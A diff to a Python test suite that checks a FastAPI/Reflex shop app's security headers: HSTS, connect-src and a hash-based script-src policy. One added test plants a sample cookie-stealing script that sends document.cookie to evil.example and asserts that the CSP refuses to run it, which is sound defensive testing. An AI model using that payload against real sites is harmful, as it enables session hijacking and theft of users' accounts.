@@ -17,8 +17,10 @@ from pathlib import Path
 
 import pytest
 from fastapi import FastAPI
+from fastapi.responses import HTMLResponse
 from fastapi.testclient import TestClient
 from reflex.utils.precompressed_staticfiles import PrecompressedStaticFiles
+from reflex.utils.prerequisites import get_web_dir
 
 from stoflow.api import create_api
 from stoflow.security.headers import SecurityHeaders, with_security_headers
@@ -44,10 +46,13 @@ def _directives(policy: str) -> dict[str, list[str]]:
     return {name: values for name, *values in (part.split() for part in policy.split(";") if part.strip())}
 
 
-def _api_and_pages(frontend: Path) -> FastAPI:
-    api = create_api()
+def _served(frontend: Path, *, production: bool = False, api: FastAPI | None = None) -> TestClient:
+    """/api and the compiled pages of `frontend`, behind the headers as the app puts them."""
+    api = api or create_api()
     api.mount("", PrecompressedStaticFiles(directory=frontend, html=True, encodings=["gzip"]))
-    return api
+    public_url = "https://shop.example" if production else BASE
+    wrapped = SecurityHeaders(api, public_url=public_url, production=production, pages_dir=frontend)
+    return TestClient(wrapped, base_url=BASE)
 
 
 @pytest.fixture
@@ -62,8 +67,14 @@ def frontend(tmp_path: Path) -> Path:
 
 @pytest.fixture
 def client(frontend: Path, database_url: str, redis_url: str) -> TestClient:
+    return _served(frontend)
+
+
+def test_the_app_puts_everything_behind_the_headers_of_its_own_build() -> None:
     assert app.api_transformer[-1] is with_security_headers  # type: ignore[index]
-    return TestClient(with_security_headers(_api_and_pages(frontend)), base_url=BASE)
+    wrapped = with_security_headers(create_api())
+    assert isinstance(wrapped, SecurityHeaders)
+    assert wrapped.build_scripts.pages_dir == (get_web_dir() / "build" / "client").resolve()
 
 
 def _assert_common(headers: dict[str, str] | object) -> None:
@@ -137,11 +148,27 @@ def test_a_routes_own_stricter_policy_is_kept_and_cannot_be_framed(
 
 def test_production_adds_hsts_and_secure_websockets(frontend: Path, database_url: str, redis_url: str) -> None:
     # STOFLOW_ENV=production needs real secrets; the middleware is given what it reads from them.
-    wrapped = SecurityHeaders(_api_and_pages(frontend), public_url="https://shop.example", production=True)
-    client = TestClient(wrapped, base_url=BASE)
+    client = _served(frontend, production=True)
 
     for response in (client.get("/account/"), client.get("/api/auth/me")):
         assert re.fullmatch(r"max-age=\d{8,}; includeSubDomains", response.headers["strict-transport-security"])
         policy = _directives(response.headers["content-security-policy"])
         assert policy["connect-src"] == ["'self'", "wss://shop.example"]
         assert "upgrade-insecure-requests" in policy
+
+
+def test_an_inline_script_that_is_not_the_builds_own_is_never_allowed(
+    frontend: Path, database_url: str, redis_url: str
+) -> None:
+    """Were an answer ever to echo what someone typed, its script would still not run."""
+    api = create_api()
+    injected = "fetch('https://evil.example/?c=' + document.cookie)"
+    api.add_api_route(
+        "/api/echo", lambda: HTMLResponse(f"<p>Hi</p><script>{THEME_SCRIPT}</script><script>{injected}</script>")
+    )
+    client = _served(frontend, api=api)
+
+    script_src = _directives(client.get("/api/echo").headers["content-security-policy"])["script-src"]
+
+    assert _sha256(injected) not in script_src
+    assert script_src == ["'self'", "'unsafe-eval'", _sha256(THEME_SCRIPT)]  # the build has this one
